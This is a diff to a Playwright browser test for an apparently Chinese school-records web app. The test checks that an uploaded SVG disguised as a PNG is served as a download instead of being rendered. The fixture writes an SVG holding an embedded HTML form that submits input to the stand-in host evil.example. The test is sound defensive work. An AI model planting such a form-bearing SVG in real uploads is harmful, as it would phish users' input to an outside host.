@@ -12,7 +12,8 @@ import pytest
 from playwright.sync_api import Browser, expect
 
 from tests.browser_fixtures import change_password, log_in
-from tests.support import CLASS_1, PASSWORD
+from tests.engine.helpers import principal_of
+from tests.support import CLASS_1, PASSWORD, build, unit_id, valid_student
 
 pytestmark = pytest.mark.browser
 
@@ -59,6 +60,11 @@ def test_svg_attachment__downloaded_not_shown(browser: Browser, start_server, fr
     server = start_server(fresh_db_url)
     server.cli("create-user", "--username", "reg", "--role", "registrar", "--unit", "示范区教育局/示范区第一中学",
                "--password", PASSWORD)
+    _app, state = build(fresh_db_url, tmp=tmp_path)
+    made = state.records.create(state.definitions.forms["student"], principal_of(state, "reg"), unit_id(state, CLASS_1), valid_student())
+    assert made.ok, made.issues
+    school_no = state.records.get(state.definitions.forms["student"], made.record_id, principal_of(state, "reg")).values["school_no"]
+    state.db.dispose()
     svg = tmp_path / "证书.png"  # an SVG that claims to be a PNG by its name
     svg.write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="100"><form '
                     b'xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="p"/></form>'
@@ -68,17 +74,16 @@ def test_svg_attachment__downloaded_not_shown(browser: Browser, start_server, fr
     try:
         log_in(page, server.base_url, "reg", PASSWORD)
         change_password(page, PASSWORD, NEW_PASSWORD)
+        # 奖惩 belongs to a student: typed by 学号 (as without JavaScript), it sits in the student's class.
         page.goto(server.base_url + "/f/award/new")
-        page.select_option("select[name=_unit]", label=CLASS_1)
-        page.fill("[name=student_name]", "张三")
+        page.fill("[name=student__text]", school_no)
         page.select_option("[name=kind]", "奖励")
         page.select_option("[name=level]", index=1)
         page.fill("[name=title]", "三好学生")
         page.fill("[name=date]", "2024-06-01")
-        page.fill("[name=student_no]", "G110105200805120018")
         page.set_input_files("[name=attachment]", str(svg))
         with page.expect_navigation():
-            page.click("form.record-form button[type=submit]")
+            page.click("form.record-form button[type=submit]:not(.implicit-submit)")
         link = page.locator("a[href^='/files/']").first.get_attribute("href")
         with page.expect_download() as download:
             page.evaluate("href => { const a = document.createElement('a'); a.href = href; document.body.appendChild(a); a.click(); }", link)
